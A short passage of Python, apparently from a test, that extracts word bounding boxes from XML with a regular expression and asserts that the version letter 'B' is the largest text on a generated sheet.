        (float(y1) - float(y0), word)
        for y0, y1, word in re.findall(r'yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)">([^<]*)<', boxes)
    ]
    assert max(sized)[1] == "B"  # the version letter is the largest thing written on the sheet
